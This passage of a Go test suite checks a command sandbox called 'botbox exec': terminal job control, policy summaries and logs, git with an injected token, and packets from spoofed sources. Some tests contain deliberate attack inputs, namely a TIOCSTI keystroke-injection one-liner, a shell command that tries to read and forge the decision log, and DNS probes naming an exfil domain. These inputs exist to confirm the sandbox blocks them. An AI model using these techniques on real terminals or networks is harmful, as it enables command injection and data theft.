	tm := &tmuxPane{t: t, sock: filepath.Join(dir, "tmux.sock")}
	tm.run(append([]string{"new-session", "-d", "-x", "200", "-y", "50"}, argv...)...)
	t.Cleanup(func() { _ = exec.Command("tmux", "-S", tm.sock, "kill-server").Run() })
	return tm
}

func (tm *tmuxPane) run(args ...string) string {
	tm.t.Helper()
	out, err := exec.Command("tmux", append([]string{"-S", tm.sock}, args...)...).CombinedOutput()
	if err != nil {
		tm.t.Fatalf("tmux %v: %v: %s", args, err, out)
	}
	return string(out)
}

// send types keys (tmux key names such as Enter or C-z as separate keys).
func (tm *tmuxPane) send(keys ...string) {
	tm.t.Helper()
	tm.run(append([]string{"send-keys"}, keys...)...)
}

// line types a line of text and Enter.
func (tm *tmuxPane) line(text string) {
	tm.t.Helper()
	tm.run("send-keys", "-l", text)
	tm.send("Enter")
}

// screen is the pane's visible content and its history.
func (tm *tmuxPane) screen() string { tm.t.Helper(); return tm.run("capture-pane", "-p", "-S", "-200") }

// waitCount waits until text appears at least n times on the screen.
func (tm *tmuxPane) waitCount(text string, n int) {
	tm.t.Helper()
	if !waitFor(commandTimeout, func() bool { return strings.Count(tm.screen(), text) >= n }) {
		tm.t.Fatalf("the terminal never showed %q %d times:\n%s", text, n, tm.screen())
	}
}

// waitState waits until the process whose /proc/PID/cmdline is cmdline
// (NUL-separated) is in state (S sleeping, T stopped), as seen from the
// host: the job control the terminal shows only afterwards.
func waitState(t *testing.T, cmdline, state string) {
	t.Helper()
	var last string
	if !waitFor(commandTimeout, func() bool {
		files, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, f := range files {
			if b, err := os.ReadFile(f); err == nil && string(b) == cmdline {
				st, _ := os.ReadFile(filepath.Join(filepath.Dir(f), "stat"))
				_, rest, _ := strings.Cut(string(st), ") ")
				last = rest[:1]
				return last == state
			}
		}
		return false
	}) {
		t.Fatalf("process %q never in state %s (last %q)", cmdline, state, last)
	}
}

// shellQuote quotes argv for a POSIX shell.
func shellQuote(argv []string) string {
	q := make([]string, len(argv))
	for i, a := range argv {
		q[i] = "'" + strings.ReplaceAll(a, "'", `'\''`) + "'"
	}
	return strings.Join(q, " ")
}

// TestLocalModeTerminal: under a real pseudo-terminal (tmux), an
// interactive shell run by botbox exec owns the terminal: tty names it,
// its own job control works (Ctrl-Z stops its job, fg resumes it, Ctrl-C
// interrupts it and neither the shell nor BotBox), and its exit status is
// the outer shell's $?. The outer shell's job control works on botbox exec
// as a whole: Ctrl-Z stops it (the command with it), fg resumes both, and
// Ctrl-C ends the command, whose death by SIGINT botbox exec repeats
// ($? = 130).
func TestLocalModeTerminal(t *testing.T) {
	t.Parallel()
	l := newLocal(t, podConfig{secrets: map[string]string{"api-key": "sk-" + randomHex(t, 16)}})
	tm := newTmux(t, l.p.dir, "ip netns exec "+l.p.podNS+" env -i PATH="+appPATH+" bash --norc --noprofile -i")
	tm.line(`PS1='outer$ '`)
	tm.waitCount("outer$ ", 1)
	tm.line(shellQuote(l.argv(nil, []string{"--quiet"}, "bash", "--norc", "--noprofile", "-i")))
	tm.line(`PS1='inner$ '`)
	tm.waitCount("inner$ ", 1)
	tm.line(`tty; echo "answer $((6*7))"`)
	tm.waitCount("answer 42", 1)
	if !strings.Contains(tm.screen(), "/dev/pts/") {
		t.Fatalf("tty inside botbox exec does not name the pseudo-terminal:\n%s", tm.screen())
	}
	tm.line("sleep 102")
	waitState(t, "sleep\x00102\x00", "S")
	tm.send("C-z")
	tm.waitCount("Stopped", 1)
	waitState(t, "sleep\x00102\x00", "T")
	tm.line("fg")
	waitState(t, "sleep\x00102\x00", "S")
	tm.send("C-c")
	tm.line(`echo "still $((1+1)) here"`)
	tm.waitCount("still 2 here", 1)
	// TIOCSTI would push keystrokes the user's shell runs after botbox
	// exec ends (outside the namespaces): refused by the terminal filter.
	tm.line(`python3 -c 'import fcntl, termios` + "\n" + `try:` + "\n" + ` [fcntl.ioctl(0, termios.TIOCSTI, bytes([c])) for c in b"echo INJECTED-$((4*4))\n"]` + "\n" + `except OSError as e: print("tiocsti-errno", e.errno)'`)
	tm.waitCount("tiocsti-errno 1", 1)
	// The outer shell reads what follows "exit 5" once the inner one has
	// ended (a long command line scrolls the prompt out of sight, so the
	// answer is what is waited for).
	tm.line("exit 5")
	tm.line(`echo "rc=$?"`)
	tm.waitCount("rc=5", 1)

	tm.line(shellQuote(l.argv(nil, []string{"--quiet"}, "sh", "-c", "echo started-$((2*3)); sleep 101; echo after-$((3*3))")))
	tm.waitCount("started-6", 1)
	waitState(t, "sleep\x00101\x00", "S")
	tm.send("C-z")
	tm.waitCount("Stopped", 2)
	waitState(t, "sleep\x00101\x00", "T")
	tm.line("fg")
	waitState(t, "sleep\x00101\x00", "S")
	tm.send("C-c")
	tm.line(`echo "rc=$?"`)
	tm.waitCount("rc=130", 1)
	if strings.Contains(tm.screen(), "INJECTED-16") {
		t.Errorf("keystrokes pushed with TIOCSTI were run:\n%s", tm.screen())
	}
	if strings.Contains(tm.screen(), "after-9") {
		t.Errorf("Ctrl-C did not reach the command:\n%s", tm.screen())
	}
	l.assertNoLeftovers(t)
}

// TestLocalModeSummaryReportAndLog: at exit botbox exec prints, on
// stderr, the requests allowed and denied per host and the first denial's
// reason (--quiet: nothing). --log keeps the decision lines in a file the
// command can neither read nor write (it could forge lines for suggest);
// --report forwards the denied request without credentials, and `botbox
// suggest --log FILE` turns the run into a policy naming the host.
func TestLocalModeSummaryReportAndLog(t *testing.T) {
	t.Parallel()
	key := "sk-" + randomHex(t, 16)
	l := newLocal(t, podConfig{secrets: map[string]string{"api-key": key}})
	curl := func(paths ...string) []string {
		script := ""
		for _, p := range paths {
			script += "curl -sS -o /dev/null --max-time 10 http://" + p + "; "
		}
		return []string{"sh", "-c", script}
	}
	r := l.mustExec(t, nil, nil, curl(hostAPI+"/s/1", hostAPI+"/s/2", hostOther+"/s/3", hostBlocked+"/s/4")...)
	for _, want := range []string{
		"botbox exec: 2 requests allowed, 2 denied",
		hostAPI, hostOther, hostBlocked,
		"first denial: " + hostOther + ": deny",
	} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("summary lacks %q:\n%s", want, r.stderr)
		}
	}
	if q := l.mustExec(t, nil, []string{"--quiet"}, curl(hostOther+"/s/5")...); strings.Contains(q.stderr, "botbox exec") {
		t.Errorf("--quiet printed:\n%s", q.stderr)
	}

	log := filepath.Join(l.home, "decisions.log")
	mark := l.p.mark(t)
	r = l.mustExec(t, nil, []string{"--report", "--log", log},
		"sh", "-c", curl(hostOther + "/report/1")[2]+"cat "+log+" >/dev/null 2>&1 && echo READ-LOG; echo forged >>"+log+" 2>/dev/null && echo WROTE-LOG; true")
	if strings.Contains(r.stdout, "READ-LOG") || strings.Contains(r.stdout, "WROTE-LOG") {
		t.Errorf("the command reached the log file: %s", r.stdout)
	}
	if !strings.Contains(r.stderr, "report mode") {
		t.Errorf("summary does not say report mode:\n%s", r.stderr)
	}
	ev := l.p.httpEvent(t, mark, "/report/1")
	if ev.Host != hostOther || len(ev.Header["Authorization"]) != 0 {
		t.Errorf("report mode: origin saw host %q Authorization %q, want %s forwarded without credentials", ev.Host, ev.Header["Authorization"], hostOther)
	}
	data, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), "forged") || !strings.Contains(string(data), `"decision":"report_deny"`) {
		t.Errorf("log file: want BotBox's report_deny line and nothing forged:\n%s", tail(string(data), 10))
	}
	if strings.Contains(string(data), key) {
		t.Errorf("the log file holds the secret value")
	}
	out, err := exec.Command(l.p.bins.botbox, "suggest", "--log", log).CombinedOutput()
	if err != nil || !strings.Contains(string(out), `host: "`+hostOther+`"`) {
		t.Errorf("botbox suggest --log: %v\n%s", err, out)
	}
	l.assertNoLeftovers(t)
}

// TestLocalModeRefusedUserNamespaces: where the kernel refuses user
// namespaces to the user (here user.max_user_namespaces=0, set in a user
// namespace of the test's own, which no other process shares), botbox
// exec fails before running anything, naming the setting and both ways
// out.
func TestLocalModeRefusedUserNamespaces(t *testing.T) {
	t.Parallel()
	l := newLocal(t, podConfig{secrets: map[string]string{"api-key": "sk-" + randomHex(t, 16)}})
	botbox := shellQuote(l.argv(nil, nil, "sh", "-c", "echo RAN")[len(l.userArgv(nil)):])
	r := runArgv(t, l.userArgv(nil, "unshare", "-U", "--map-root-user", "sh", "-c",
		"echo 0 >/proc/sys/user/max_user_namespaces && exec "+botbox))
	if r.code != 1 || strings.Contains(r.stdout, "RAN") {
		t.Fatalf("exit %d stdout %q, want 1 and the command never run\n%s", r.code, r.stdout, r.stderr)
	}
	for _, want := range []string{"user.max_user_namespaces = 0", "sysctl -w user.max_user_namespaces=", "run botbox exec as root"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("error lacks %q:\n%s", want, r.stderr)
		}
	}
}

// TestLocalModeGit: real git, as the local user through botbox exec,
// clones over https:// (intercepted, trusted through GIT_SSL_CAINFO) from
// an origin that answers 401 unless the real token comes as Basic
// credentials, commits and pushes; the token is injected on every request
// and git holds none. A host without a rule gets 403.
func TestLocalModeGit(t *testing.T) {
	t.Parallel()
	if _, err := os.Stat("/usr/bin/git"); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("git is missing in CI: %v", err)
		}
		t.Skipf("skipping: /usr/bin/git: %v", err)
	}
	token := "ghp_" + randomHex(t, 18)
	wantAuth := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+token))
	var bare string
	l := newLocal(t, podConfig{
		rules:       rulesGit,
		secrets:     map[string]string{"git-token": token},
		originNames: []string{hostGit},
		extraHosts:  func(p *pod) string { return p.netIP4.String() + " " + hostGit + "\n" },
		originArgs:  gitOrigin(&bare, wantAuth),
	})
	env := []string{"GIT_TERMINAL_PROMPT=0", "GIT_CONFIG_NOSYSTEM=1", "GIT_ASKPASS=/bin/false",
		"GIT_AUTHOR_NAME=agent", "GIT_AUTHOR_EMAIL=agent@example.test", "GIT_COMMITTER_NAME=agent", "GIT_COMMITTER_EMAIL=agent@example.test"}
	work := filepath.Join(l.home, "clone")
	mark := l.p.mark(t)
	l.mustExec(t, env, []string{"--quiet"}, "sh", "-c", fmt.Sprintf(
		"git clone -q https://%s/git/repo.git %s && cd %s && test \"$(cat README)\" = seed && git commit -q --allow-empty -m 'local mode commit' && git push -q origin HEAD:refs/heads/main",
		hostGit, work, work))
	if log := hostGitCmd(t, bare, "log", "--format=%s", "main"); !strings.Contains(log, "local mode commit") {
		t.Errorf("the origin's repository lacks the pushed commit:\n%s", log)
	}
	n := 0
	for _, ev := range l.p.events(t, mark) {
		if ev.Kind != wire.KindHTTP {
			continue
		}
		n++
		if got := ev.Header["Authorization"]; !ev.TLS || len(got) != 1 || got[0] != wantAuth {
			t.Errorf("origin got %s tls=%v Authorization %q, want TLS and the real credential", ev.Path, ev.TLS, got)
		}
	}
	if n == 0 {
		t.Error("the origin saw no git request")
	}
	r := l.exec(t, env, []string{"--quiet"}, "git", "ls-remote", "https://"+hostOther+"/git/repo.git")
	if r.code == 0 || !strings.Contains(r.stderr, "403") {
		t.Errorf("git ls-remote of a host without a rule: exit %d, want a 403 failure:\n%s", r.code, r.stderr)
	}
}

// TestLocalModeSpoofedSourcesGetNoAnswer (playbook §1, every responder is
// a reflector): the command sends, from the attacker's IPv6 address
// (IPV6_FREEBIND, no capability needed), DNS queries to the guard through
// loopback and through the resolver's address, and a TCP handshake to
// BotBox's listener. Every answer is addressed to the attacker, and none
// leaves: the namespace has no way out but BotBox's sockets, and its rules
// drop what is not for loopback. Nothing reaches the attacker's address in
// the net namespace, and no query reaches the DNS server.
func TestLocalModeSpoofedSourcesGetNoAnswer(t *testing.T) {
	t.Parallel()
	l := newLocal(t, podConfig{secrets: map[string]string{"api-key": "sk-" + randomHex(t, 16)},
		extraAddrs: []netip.Addr{attacker6, attacker4}, capture: []netip.Addr{attacker6, attacker4}})
	p := l.p
	mark := p.mark(t)
	token := "spoof-" + randomHex(t, 6)
	src := attacker6.String()
	probes := [][]string{
		{"dns", "-src", src, "-addr", "[::1]:53", "-name", token + ".exfil.test", "-qtype", "TXT", "-timeout", "2s"},
		{"dns", "-src", src, "-addr", p.addr6(53).String(), "-name", hostAPI, "-qtype", "AAAA", "-timeout", "2s"},
		{"tcp", "-src", src, "-addr", "[::1]:8080", "-connect-timeout", "1s"},
		{"tcp", "-src", src, "-addr", p.addr6(443).String(), "-connect-timeout", "1s"},
	}
	for i, r := range l.clientBatch(t, probes) {
		if r.Status != 0 || (i >= 2 && r.Connected) {
			t.Errorf("%s: connected=%v status=%d: an answer came back to a spoofed source", strings.Join(probes[i], " "), r.Connected, r.Status)
		}
	}
	p.assertNothingOnTheWire(t, mark)
	for _, e := range dnsEvents(p.events(t, mark)) {
		t.Errorf("the DNS server received %q from %s", e.Payload, e.Remote)
	}
}
